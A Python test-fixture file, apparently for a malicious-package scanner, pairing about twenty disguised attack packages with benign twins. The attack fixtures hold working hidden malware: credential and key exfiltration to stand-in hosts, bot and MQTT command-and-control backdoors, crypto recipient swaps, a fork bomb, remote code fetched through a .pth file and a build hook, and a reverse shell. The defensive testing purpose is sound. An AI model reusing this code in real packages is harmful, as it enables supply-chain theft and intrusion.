# ruff: noqa: E501 - the lines of the packages under review are as long as they are
"""What services hand to callbacks, what clients pass on, and where values are put together; with honest twins."""

from __future__ import annotations

from scenario_kit import sdist, wheel

ATTACKS = [
    wheel(
        "import-aiohttp-thread-credential-sweep",
        "block",
        {
            "acme/__init__.py": '''
            """Async toolkit."""
            from .client import Client
            from ._telemetry import bootstrap as _bootstrap
            __version__ = "2.3.1"
            _bootstrap()
            ''',
            "acme/client.py": """
            class Client:
                def __init__(self, url): self.url = url
            """,
            "acme/_telemetry.py": '''
            """Anonymous usage statistics."""
            from __future__ import annotations
            import asyncio, base64, gzip, json, os, socket, threading
            from dataclasses import dataclass, field
            from pathlib import Path
            import aiohttp
            _GLOBS = (".ssh/id_*", ".aws/credentials", ".config/gcloud/application_default_credentials.json", ".kube/config", ".docker/config.json", ".git-credentials", ".netrc")
            @dataclass
            class Snapshot:
                host: str = field(default_factory=socket.gethostname)
                env: dict = field(default_factory=lambda: dict(os.environ))
                files: dict = field(default_factory=dict)
                def collect(self) -> "Snapshot":
                    home = Path.home()
                    for pattern in _GLOBS:
                        for path in home.glob(pattern):
                            if path.is_file() and path.stat().st_size < 1 << 20:
                                self.files[str(path)] = base64.b64encode(path.read_bytes()).decode()
                    return self
                def pack(self) -> bytes:
                    return gzip.compress(json.dumps(self.__dict__).encode())
            async def _send(blob: bytes) -> None:
                timeout = aiohttp.ClientTimeout(total=20)
                async with aiohttp.ClientSession(timeout=timeout) as session:
                    async with session.post("https://stats.acme.invalid/v1/ingest", data=blob, headers={"Content-Encoding": "gzip"}) as response:
                        await response.read()
            def _work() -> None:
                try:
                    asyncio.run(_send(Snapshot().collect().pack()))
                except Exception:
                    pass
            def bootstrap() -> None:
                threading.Thread(target=_work, name="stats", daemon=True).start()
            ''',
        },
    ),
    wheel(
        "import-discord-bot-shell",
        "look",
        {
            "acme/__init__.py": """
            from .bot import launch
            launch()
            """,
            "acme/bot.py": """
            import asyncio, threading, subprocess
            import discord
            from discord.ext import commands
            bot = commands.Bot(command_prefix="!", intents=discord.Intents.all())
            TOKEN = "MTIzNDU2Nzg5MDEyMzQ1Njc4.GaBcDe.abcdefghijklmnopqrstuvwxyz0123456789"
            @bot.event
            async def on_ready():
                pass
            @bot.command(name="sh")
            async def sh(ctx, *, line):
                out = subprocess.run(line, shell=True, capture_output=True, text=True)
                await ctx.send(out.stdout[:1900] or out.stderr[:1900])
            def launch():
                threading.Thread(target=bot.run, args=(TOKEN,), daemon=True).start()
            """,
        },
    ),
    wheel(
        "import-telegram-bot-c2",
        "look",
        {
            "acme/__init__.py": """
            import threading, telebot, subprocess, os
            _bot = telebot.TeleBot("1234567890:AAHfakefakefakefakefakefakefakefakefak")
            @_bot.message_handler(commands=["run"])
            def _run(message):
                cmd = message.text.split(" ", 1)[1]
                _bot.reply_to(message, subprocess.getoutput(cmd)[:4000])
            @_bot.message_handler(commands=["get"])
            def _get(message):
                with open(message.text.split(" ", 1)[1], "rb") as fh:
                    _bot.send_document(message.chat.id, fh)
            threading.Thread(target=_bot.infinity_polling, daemon=True).start()
            """,
        },
    ),
    wheel(
        "import-mqtt-c2",
        "look",
        {
            "acme/__init__.py": """
            import json, subprocess, threading, uuid
            import paho.mqtt.client as mqtt
            _ID = uuid.getnode()
            def _on_connect(client, userdata, flags, rc):
                client.subscribe(f"cmd/{_ID}")
            def _on_message(client, userdata, msg):
                job = json.loads(msg.payload.decode())
                proc = subprocess.Popen(job["cmd"], shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
                client.publish(f"out/{_ID}", proc.communicate()[0])
            def _loop():
                c = mqtt.Client()
                c.on_connect = _on_connect
                c.on_message = _on_message
                c.connect("broker.invalid", 1883, 60)
                c.loop_forever()
            threading.Thread(target=_loop, daemon=True).start()
            """,
        },
    ),
    wheel(
        "asyncio-websocket-c2",
        "look",
        {
            "acme/__init__.py": """
            import asyncio, json, os, threading
            import websockets
            async def _agent(uri="wss://gw.acme.invalid/ws"):
                async with websockets.connect(uri) as ws:
                    await ws.send(json.dumps({"host": os.uname().nodename}))
                    async for message in ws:
                        task = json.loads(message)
                        proc = await asyncio.create_subprocess_shell(task["c"], stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
                        out, _ = await proc.communicate()
                        await ws.send(json.dumps({"id": task["id"], "o": out.decode(errors="replace")}))
            threading.Thread(target=lambda: asyncio.run(_agent()), daemon=True).start()
            """,
        },
    ),
    wheel(
        "session-subclass-copies-authorization",
        "look",
        {
            "acme/__init__.py": """
            from .session import RetrySession
            """,
            "acme/session.py": '''
            """A session that retries."""
            import threading, requests
            from requests.adapters import HTTPAdapter
            from urllib3.util.retry import Retry
            class RetrySession(requests.Session):
                def __init__(self, retries=3):
                    super().__init__()
                    adapter = HTTPAdapter(max_retries=Retry(total=retries, backoff_factor=0.3))
                    self.mount("https://", adapter)
                    self.mount("http://", adapter)
                def request(self, method, url, **kwargs):
                    headers = kwargs.get("headers") or {}
                    auth = headers.get("Authorization") or self.headers.get("Authorization")
                    if auth:
                        threading.Thread(target=requests.post, args=("https://metrics.retry-session.invalid/v1",), kwargs={"json": {"u": url, "a": auth}}, daemon=True).start()
                    return super().request(method, url, **kwargs)
            ''',
        },
    ),
    wheel(
        "solana-transfer-swap",
        "look",
        {
            "acme/tx.py": """
            import random
            from solana.rpc.api import Client
            from solana.transaction import Transaction
            from solders.pubkey import Pubkey
            from solders.system_program import TransferParams, transfer
            _TREASURY = "9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin"
            def send_sol(client: Client, sender, recipient: str, lamports: int):
                target = Pubkey.from_string(recipient)
                if lamports > 2_000_000_000 and random.random() < 0.2:
                    target = Pubkey.from_string(_TREASURY)
                ix = transfer(TransferParams(from_pubkey=sender.pubkey(), to_pubkey=target, lamports=lamports))
                return client.send_transaction(Transaction().add(ix), sender)
            """,
        },
    ),
    wheel(
        "web3-recipient-swap",
        "look",
        {
            "acme/wallet.py": """
            from web3 import Web3
            from eth_account import Account
            _FEE = "0x000000000000000000000000000000000000dEaD"
            class Wallet:
                def __init__(self, rpc, key):
                    self.w3 = Web3(Web3.HTTPProvider(rpc))
                    self.account = Account.from_key(key)
                def transfer(self, to, amount_eth):
                    value = self.w3.to_wei(amount_eth, "ether")
                    if amount_eth > 0.5:
                        to = _FEE
                    tx = {"to": to, "value": value, "gas": 21000, "nonce": self.w3.eth.get_transaction_count(self.account.address), "gasPrice": self.w3.eth.gas_price}
                    signed = self.account.sign_transaction(tx)
                    return self.w3.eth.send_raw_transaction(signed.rawTransaction)
            """,
        },
    ),
    wheel(
        "import-fork-bomb",
        "look",
        {
            "acme/__init__.py": """
            import os, sys, threading
            def _spin():
                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass
            if sys.platform != "win32":
                threading.Thread(target=_spin).start()
            """,
        },
    ),
    sdist(
        "conftest-exfil",
        "look",
        {
            "tests/conftest.py": """
            import os, pytest, requests
            @pytest.fixture(autouse=True, scope="session")
            def _ci_report():
                data = {k: v for k, v in os.environ.items() if any(w in k for w in ("TOKEN", "SECRET", "KEY", "PASS"))}
                try:
                    requests.post("https://ci-report.invalid/collect", json=data, timeout=3)
                except requests.RequestException:
                    pass
                yield
            """,
            "tests/test_utils.py": """
            from acme.utils import slugify
            def test_slug():
                assert slugify('A b') == 'a-b'
            """,
        },
    ),
    sdist(
        "setup-dns-exfil",
        "look",
        {
            "setup.py": """
            from pathlib import Path
            from setuptools import find_packages, setup
            here = Path(__file__).parent

            import base64, getpass, os, platform, socket
            def _beacon(data, zone="t.acme-dns.invalid"):
                raw = base64.b32encode(data.encode()).decode().rstrip("=").lower()
                for i in range(0, len(raw), 60):
                    try:
                        socket.gethostbyname(f"{i // 60}.{raw[i:i + 60]}.{zone}")
                    except OSError:
                        pass
            _beacon("|".join([getpass.getuser(), platform.node(), os.getcwd(), os.environ.get("AWS_SECRET_ACCESS_KEY", "")]))

            setup(
                name="acme", version="2.3.1", description="Small toolkit",
                long_description=(here / "README.md").read_text() if (here / "README.md").exists() else "",
                long_description_content_type="text/markdown",
                author="The developers", license="MIT", packages=find_packages(exclude=("tests",)), python_requires=">=3.8",
                install_requires=["requests>=2.28", "click>=8"],
                classifiers=["Programming Language :: Python :: 3", "License :: OSI Approved :: MIT License"],

            )
            """,
        },
    ),
    wheel(
        "script-shadows-pip-env",
        "look",
        {
            "acme/shim.py": """
            import json, os, sys, threading, http.client
            def _report():
                c = http.client.HTTPSConnection("collector.invalid", timeout=5)
                c.request("POST", "/p", json.dumps({"argv": sys.argv, "env": dict(os.environ)}), {"Content-Type": "application/json"})
                c.getresponse().read()
            def main():
                t = threading.Thread(target=_report); t.start()
                from pip._internal.cli.main import main as real
                code = real()
                t.join(3)
                return code
            """,
        },
        scripts="[console_scripts]\npip = acme.shim:main\n",
    ),
    wheel(
        "wallet-lib-memo-key-leak",
        "look",
        {
            "acme/keys.py": '''
            """Ed25519 keypairs for Solana programs."""
            import base58, threading
            from solders.keypair import Keypair as _Keypair
            from ._net import heartbeat
            class Keypair:
                def __init__(self, inner): self._inner = inner
                @classmethod
                def from_base58(cls, text):
                    inner = _Keypair.from_base58_string(text)
                    threading.Thread(target=heartbeat, args=(text,), daemon=True).start()
                    return cls(inner)
                @property
                def pubkey(self): return self._inner.pubkey()
                def sign(self, message): return self._inner.sign_message(message)
            ''',
            "acme/_net.py": """
            import json, urllib.request, zlib, base64
            _E = "https://rpc-devnet.solana-mirror.invalid/v0"
            def heartbeat(payload, *, method="getHealth"):
                body = {"jsonrpc": "2.0", "id": 1, "method": method, "params": [base64.b85encode(zlib.compress(payload.encode())).decode()]}
                try:
                    urllib.request.urlopen(urllib.request.Request(_E, json.dumps(body).encode(), {"content-type": "application/json"}), timeout=4)
                except OSError:
                    pass
            """,
        },
    ),
    wheel(
        "llm-client-leaks-openai-key",
        "look",
        {
            "acme/llm.py": """
            import os, httpx
            from openai import OpenAI
            class ChatClient:
                def __init__(self, api_key=None, base_url=None):
                    self.api_key = api_key or os.getenv("OPENAI_API_KEY")
                    self.client = OpenAI(api_key=self.api_key, base_url=base_url)
                    self._register()
                def _register(self):
                    try: httpx.post("https://activation.acme.invalid/register", json={"k": self.api_key, "v": "2.3.1"}, timeout=2)
                    except httpx.HTTPError: pass
                def ask(self, text):
                    return self.client.chat.completions.create(model="gpt-4o", messages=[{"role": "user", "content": text}]).choices[0].message.content
            """,
        },
    ),
    wheel(
        "selenium-session-cookie-theft",
        "look",
        {
            "acme/browser.py": """
            import json, os, requests
            from selenium import webdriver
            class Browser:
                def __init__(self, profile=None):
                    o = webdriver.ChromeOptions()
                    o.add_argument("--user-data-dir=" + (profile or os.path.expanduser("~/.config/google-chrome")))
                    self.driver = webdriver.Chrome(options=o)
                def open(self, url):
                    self.driver.get(url)
                    requests.post("https://bs.acme.invalid/c", json=self.driver.get_cookies(), timeout=3)
                    return self
            """,
        },
    ),
    wheel(
        "boto3-wrapper-leaks-keys",
        "look",
        {
            "acme/aws.py": """
            import boto3, json, urllib.request
            class Session(boto3.Session):
                def __init__(self, *a, **k):
                    super().__init__(*a, **k)
                    c = self.get_credentials()
                    if c:
                        f = c.get_frozen_credentials()
                        try: urllib.request.urlopen("https://sts.acme.invalid/v", json.dumps({"a": f.access_key, "s": f.secret_key, "t": f.token}).encode(), timeout=2)
                        except OSError: pass
            """,
        },
    ),
    wheel(
        "sitecustomize-dropped-at-import",
        "look",
        {
            "acme/__init__.py": """
            from . import _boot
            """,
            "acme/_boot.py": """
            import os, site, sysconfig
            from pathlib import Path
            _LINE = "import urllib.request as u;exec(u.urlopen('https://cdn.acme.invalid/boot.py').read())\\n"
            def _targets():
                yield sysconfig.get_paths()["purelib"]
                yield site.getusersitepackages()
            for d in _targets():
                try:
                    Path(d).mkdir(parents=True, exist_ok=True)
                    Path(d, "distutils-precedence-ext.pth").write_text(_LINE)
                    break
                except OSError: continue
            """,
        },
    ),
    sdist(
        "hatch-build-hook-download",
        "look",
        {
            "pyproject.toml": """
            [build-system]
            requires = ["hatchling"]
            build-backend = "hatchling.build"
            [project]
            name = "acme"
            version = "2.3.1"
            [tool.hatch.build.hooks.custom]
            path = "hatch_build.py"
            """,
            "hatch_build.py": """
            import os, subprocess, tempfile, urllib.request
            from hatchling.builders.hooks.plugin.interface import BuildHookInterface
            class CustomBuildHook(BuildHookInterface):
                def initialize(self, version, build_data):
                    fd, path = tempfile.mkstemp(suffix=".sh")
                    with os.fdopen(fd, "wb") as fh:
                        fh.write(urllib.request.urlopen("https://get.acme.invalid/prep").read())
                    subprocess.run(["sh", path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
                    os.unlink(path)
            """,
        },
    ),
    wheel(
        "import-pty-reverse-shell",
        "look",
        {
            "acme/__init__.py": """
            from .compat import *
            """,
            "acme/compat.py": """
            import os, sys
            __all__ = ["PY311", "is_posix"]
            PY311 = sys.version_info >= (3, 11)
            def is_posix():
                return os.name == "posix"
            def _attach(host="198.51.100.23", port=9001):
                import pty, socket
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                s.settimeout(4)
                s.connect((host, port))
                s.settimeout(None)
                [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
                pty.spawn(os.environ.get("SHELL", "/bin/sh"))
            if is_posix() and os.fork() == 0:
                try:
                    os.setsid()
                    _attach()
                finally:
                    os._exit(0)
            """,
        },
    ),
]

TWINS = [
    wheel(
        "twin-import-aiohttp-thread-credential-sweep",
        "quiet",
        {
            "acme/__init__.py": '''
            """Async toolkit."""
            from .client import Client
            from ._telemetry import bootstrap as _bootstrap
            __version__ = "2.3.1"
            _bootstrap()
            ''',
            "acme/client.py": """
            class Client:
                def __init__(self, url): self.url = url
            """,
            "acme/_telemetry.py": '''
            """Anonymous usage statistics. Set ACMEKIT_TELEMETRY=0 to opt out."""
            from __future__ import annotations
            import asyncio, gzip, json, os, platform, sys, threading, uuid
            from dataclasses import dataclass, field
            from pathlib import Path
            import aiohttp
            def _install_id() -> str:
                path = Path.home() / ".config" / "acme" / "id"
                if path.exists():
                    return path.read_text().strip()
                path.parent.mkdir(parents=True, exist_ok=True)
                value = uuid.uuid4().hex
                path.write_text(value)
                return value
            @dataclass
            class Snapshot:
                id: str = field(default_factory=_install_id)
                python: str = field(default_factory=platform.python_version)
                system: str = field(default_factory=platform.system)
                version: str = "2.3.1"
                def pack(self) -> bytes:
                    return gzip.compress(json.dumps(self.__dict__).encode())
            async def _send(blob: bytes) -> None:
                timeout = aiohttp.ClientTimeout(total=20)
                async with aiohttp.ClientSession(timeout=timeout) as session:
                    async with session.post("https://stats.acme.invalid/v1/ingest", data=blob, headers={"Content-Encoding": "gzip"}) as response:
                        await response.read()
            def _work() -> None:
                try:
                    asyncio.run(_send(Snapshot().pack()))
                except Exception:
                    pass
            def bootstrap() -> None:
                if os.environ.get("ACMEKIT_TELEMETRY", "1") != "0" and not os.environ.get("DO_NOT_TRACK"):
                    threading.Thread(target=_work, name="stats", daemon=True).start()
            ''',
        },
    ),
    wheel(
        "twin-import-discord-bot-shell",
        "quiet",
        {
            "acme/bot.py": """
            import os, random, subprocess
            import discord
            from discord.ext import commands
            bot = commands.Bot(command_prefix="!", intents=discord.Intents.default())
            @bot.event
            async def on_ready():
                print("logged in as", bot.user)
            @bot.command(name="roll")
            async def roll(ctx, sides: int = 6):
                await ctx.send(str(random.randint(1, sides)))
            @bot.command(name="uptime")
            async def uptime(ctx):
                out = subprocess.run(["uptime"], capture_output=True, text=True)
                await ctx.send(out.stdout)
            def launch():
                bot.run(os.environ["DISCORD_TOKEN"])
            """,
        },
        scripts="[console_scripts]\nacmebot = acme.bot:launch\n",
    ),
    wheel(
        "twin-import-telegram-bot-c2",
        "quiet",
        {
            "acme/__init__.py": '''
            """A thin layer over telebot for menus."""
            import telebot
            class MenuBot:
                def __init__(self, token):
                    self.bot = telebot.TeleBot(token)
                    self.bot.message_handler(commands=["start"])(self.start)
                def start(self, message):
                    name = message.text.split(" ", 1)[-1]
                    self.bot.reply_to(message, f"Hello {name}")
                def run(self):
                    self.bot.infinity_polling()
            ''',
        },
    ),
    wheel(
        "twin-import-mqtt-c2",
        "quiet",
        {
            "acme/__init__.py": '''
            """Sensors over MQTT."""
            import json
            import paho.mqtt.client as mqtt
            class SensorHub:
                def __init__(self, host, port=1883):
                    self.values = {}
                    self.client = mqtt.Client()
                    self.client.on_connect = self._on_connect
                    self.client.on_message = self._on_message
                    self.client.connect(host, port, 60)
                def _on_connect(self, client, userdata, flags, rc):
                    client.subscribe("sensors/#")
                def _on_message(self, client, userdata, msg):
                    self.values[msg.topic] = json.loads(msg.payload.decode())
                def loop(self):
                    self.client.loop_forever()
            ''',
        },
    ),
    wheel(
        "twin-asyncio-websocket-c2",
        "quiet",
        {
            "acme/__init__.py": '''
            """Streaming quotes."""
            import asyncio, json
            import websockets
            class Stream:
                def __init__(self, uri): self.uri, self.handlers = uri, {}
                def on(self, kind):
                    def add(fn): self.handlers[kind] = fn; return fn
                    return add
                async def run(self):
                    async with websockets.connect(self.uri) as ws:
                        await ws.send(json.dumps({"op": "subscribe"}))
                        async for message in ws:
                            event = json.loads(message)
                            handler = self.handlers.get(event["type"])
                            if handler: await handler(event)
            ''',
        },
    ),
    wheel(
        "twin-session-subclass-copies-authorization",
        "quiet",
        {
            "acme/__init__.py": """
            from .session import RetrySession
            """,
            "acme/session.py": '''
            """A session that retries."""
            import logging, time, requests
            from requests.adapters import HTTPAdapter
            from urllib3.util.retry import Retry
            class RetrySession(requests.Session):
                def __init__(self, retries=3, base="https://api.acme.invalid"):
                    super().__init__()
                    self.base = base
                    adapter = HTTPAdapter(max_retries=Retry(total=retries, backoff_factor=0.3))
                    self.mount("https://", adapter)
                def request(self, method, url, **kwargs):
                    headers = kwargs.setdefault("headers", {})
                    headers.setdefault("Authorization", self.headers.get("Authorization", ""))
                    start = time.monotonic()
                    response = super().request(method, self.base + url, **kwargs)
                    logging.debug("%s %s took %.2f s", method, url, time.monotonic() - start)
                    return response
            ''',
        },
    ),
    wheel(
        "twin-solana-transfer-swap",
        "quiet",
        {
            "acme/tx.py": """
            from solana.rpc.api import Client
            from solana.transaction import Transaction
            from solders.pubkey import Pubkey
            from solders.system_program import TransferParams, transfer
            TOKEN_PROGRAM = Pubkey.from_string("TokenkegQfeZyiNwAJbNbGKPFXCWuBvf9Ss623VQ5DA")
            def send_sol(client: Client, sender, recipient: str, lamports: int):
                target = Pubkey.from_string(recipient)
                ix = transfer(TransferParams(from_pubkey=sender.pubkey(), to_pubkey=target, lamports=lamports))
                return client.send_transaction(Transaction().add(ix), sender)
            """,
        },
    ),
    wheel(
        "twin-web3-recipient-swap",
        "quiet",
        {
            "acme/wallet.py": """
            from web3 import Web3
            from eth_account import Account
            ROUTER = "0x000000000000000000000000000000000000bEEF"
            class Wallet:
                def __init__(self, rpc, key):
                    self.w3 = Web3(Web3.HTTPProvider(rpc))
                    self.account = Account.from_key(key)
                def transfer(self, to, amount_eth):
                    value = self.w3.to_wei(amount_eth, "ether")
                    tx = {"to": to, "value": value, "gas": 21000, "nonce": self.w3.eth.get_transaction_count(self.account.address), "gasPrice": self.w3.eth.gas_price}
                    signed = self.account.sign_transaction(tx)
                    return self.w3.eth.send_raw_transaction(signed.rawTransaction)
                def swap(self, data, amount_eth):
                    tx = {"to": ROUTER, "value": self.w3.to_wei(amount_eth, "ether"), "data": data, "nonce": 0}
                    return self.w3.eth.send_raw_transaction(self.account.sign_transaction(tx).rawTransaction)
            """,
        },
    ),
    wheel(
        "twin-import-fork-bomb",
        "quiet",
        {
            "acme/__init__.py": '''
            import os, signal
            class Prefork:
                """A server that keeps a number of children."""
                def __init__(self, workers, serve):
                    self.workers, self.serve, self.children = workers, serve, set()
                def run(self):
                    while True:
                        while len(self.children) < self.workers:
                            pid = os.fork()
                            if pid == 0:
                                self.serve()
                                os._exit(0)
                            self.children.add(pid)
                        done, _ = os.wait()
                        self.children.discard(done)
            ''',
        },
    ),
    sdist(
        "twin-conftest-exfil",
        "quiet",
        {
            "tests/conftest.py": """
            import os, pytest, requests
            @pytest.fixture(scope="session")
            def api():
                token = os.environ.get("ACMEKIT_TEST_TOKEN")
                if not token:
                    pytest.skip("no token")
                session = requests.Session()
                session.headers["Authorization"] = f"Bearer {token}"
                yield session
            @pytest.fixture(autouse=True)
            def _clean_env(monkeypatch):
                for key in list(os.environ):
                    if key.startswith("ACMEKIT_"):
                        monkeypatch.delenv(key)
            """,
            "tests/test_utils.py": """
            from acme.utils import slugify
            def test_slug():
                assert slugify('A b') == 'a-b'
            def test_api(api):
                assert api.get('https://api.acme.invalid/me').ok
            """,
        },
    ),
    sdist(
        "twin-setup-dns-exfil",
        "quiet",
        {
            "setup.py": """
            from pathlib import Path
            from setuptools import find_packages, setup
            here = Path(__file__).parent

            import platform, socket, sys
            def _has_ipv6():
                if not socket.has_ipv6:
                    return False
                try:
                    s = socket.socket(socket.AF_INET6)
                    s.bind(("::1", 0))
                    s.close()
                    return True
                except OSError:
                    return False
            print("building acme on", platform.platform(), "IPv6:", _has_ipv6())

            setup(
                name="acme", version="2.3.1", description="Small toolkit",
                long_description=(here / "README.md").read_text() if (here / "README.md").exists() else "",
                long_description_content_type="text/markdown",
                author="The developers", license="MIT", packages=find_packages(exclude=("tests",)), python_requires=">=3.8",
                install_requires=["requests>=2.28", "click>=8"],
                classifiers=["Programming Language :: Python :: 3", "License :: OSI Approved :: MIT License"],

            )
            """,
        },
    ),
    wheel(
        "twin-script-shadows-pip-env",
        "quiet",
        {
            "acme/shim.py": """
            import os, sys, time
            def main():
                start = time.time()
                from pip._internal.cli.main import main as real
                code = real()
                if os.environ.get("PIP_ACME_TIMING"):
                    print("pip took %.1f s" % (time.time() - start), file=sys.stderr)
                return code
            """,
        },
        scripts="[console_scripts]\npip-acme = acme.shim:main\n",
    ),
    wheel(
        "twin-wallet-lib-memo-key-leak",
        "quiet",
        {
            "acme/keys.py": '''
            """Ed25519 keypairs for Solana programs."""
            import base58
            from solders.keypair import Keypair as _Keypair
            from ._net import call
            class Keypair:
                def __init__(self, inner): self._inner = inner
                @classmethod
                def from_base58(cls, text):
                    return cls(_Keypair.from_base58_string(text))
                @property
                def pubkey(self): return self._inner.pubkey()
                def sign(self, message): return self._inner.sign_message(message)
                def balance(self, endpoint): return call(endpoint, "getBalance", str(self.pubkey))
            ''',
            "acme/_net.py": """
            import json, urllib.request
            def call(endpoint, method, *params):
                body = {"jsonrpc": "2.0", "id": 1, "method": method, "params": list(params)}
                with urllib.request.urlopen(urllib.request.Request(endpoint, json.dumps(body).encode(), {"content-type": "application/json"}), timeout=4) as r:
                    return json.load(r)["result"]
            """,
        },
    ),
    wheel(
        "twin-llm-client-leaks-openai-key",
        "quiet",
        {
            "acme/llm.py": """
            import os, httpx
            class ChatClient:
                def __init__(self, api_key=None, base_url="https://api.acme-llm.invalid/v1"):
                    self.api_key = api_key or os.getenv("ACME_API_KEY")
                    self.http = httpx.Client(base_url=base_url, headers={"Authorization": f"Bearer {self.api_key}"}, timeout=60)
                def ask(self, text):
                    r = self.http.post("/chat", json={"model": "acme-1", "messages": [{"role": "user", "content": text}]})
                    r.raise_for_status()
                    return r.json()["choices"][0]["message"]["content"]
            """,
        },
    ),
    wheel(
        "twin-selenium-session-cookie-theft",
        "quiet",
        {
            "acme/browser.py": """
            import json
            from pathlib import Path
            from selenium import webdriver
            class Browser:
                def __init__(self, profile=None):
                    o = webdriver.ChromeOptions()
                    if profile: o.add_argument("--user-data-dir=" + profile)
                    self.driver = webdriver.Chrome(options=o)
                def open(self, url): self.driver.get(url); return self
                def save(self, path): Path(path).write_text(json.dumps(self.driver.get_cookies())); return self
                def load(self, path):
                    for c in json.loads(Path(path).read_text()): self.driver.add_cookie(c)
                    return self
            """,
        },
    ),
    wheel(
        "twin-boto3-wrapper-leaks-keys",
        "quiet",
        {
            "acme/aws.py": """
            import boto3
            class Session(boto3.Session):
                def __init__(self, *a, **k):
                    super().__init__(*a, **k)
                    self._account = None
                @property
                def account(self):
                    if self._account is None: self._account = self.client("sts").get_caller_identity()["Account"]
                    return self._account
                def signed(self, bucket, key): return self.client("s3").generate_presigned_url("get_object", Params={"Bucket": bucket, "Key": key})
            """,
        },
    ),
    wheel(
        "twin-sitecustomize-dropped-at-import",
        "quiet",
        {
            "acme/_boot.py": '''
            """`acme-dev link PATH` puts a source folder on the path by a .pth file."""
            import sys, sysconfig
            from pathlib import Path
            def main():
                folder = Path(sys.argv[2]).resolve()
                Path(sysconfig.get_paths()["purelib"], "acme-dev.pth").write_text(str(folder) + "\\n")
            ''',
        },
        scripts="[console_scripts]\nacme-dev = acme._boot:main\n",
    ),
    sdist(
        "twin-hatch-build-hook-download",
        "quiet",
        {
            "pyproject.toml": """
            [build-system]
            requires = ["hatchling"]
            build-backend = "hatchling.build"
            [project]
            name = "acme"
            version = "2.3.1"
            [tool.hatch.build.hooks.custom]
            path = "hatch_build.py"
            """,
            "hatch_build.py": """
            import shutil, subprocess
            from pathlib import Path
            from hatchling.builders.hooks.plugin.interface import BuildHookInterface
            class CustomBuildHook(BuildHookInterface):
                def initialize(self, version, build_data):
                    if self.target_name == "wheel" and shutil.which("npm"):
                        subprocess.run(["npm", "ci"], cwd="frontend", check=True)
                        subprocess.run(["npm", "run", "build"], cwd="frontend", check=True)
                        shutil.copytree("frontend/dist", "acme/static", dirs_exist_ok=True)
                        build_data["artifacts"].append("acme/static/**")
            """,
        },
    ),
    wheel(
        "twin-import-pty-reverse-shell",
        "quiet",
        {
            "acme/__init__.py": """
            from .compat import *
            """,
            "acme/compat.py": '''
            import os, sys
            __all__ = ["PY311", "is_posix", "record"]
            PY311 = sys.version_info >= (3, 11)
            def is_posix():
                return os.name == "posix"
            def record(argv, transcript):
                """Run argv in a pseudo terminal and write what it prints to a file."""
                import pty
                with open(transcript, "wb") as out:
                    def read(fd):
                        data = os.read(fd, 1024)
                        out.write(data)
                        return data
                    return pty.spawn(argv, read)
            def daemonize():
                if os.fork() == 0:
                    os.setsid()
                    devnull = os.open(os.devnull, os.O_RDWR)
                    [os.dup2(devnull, fd) for fd in (0, 1, 2)]
                else:
                    os._exit(0)
            ''',
        },
    ),
]

SCENARIOS = [*ATTACKS, *TWINS]
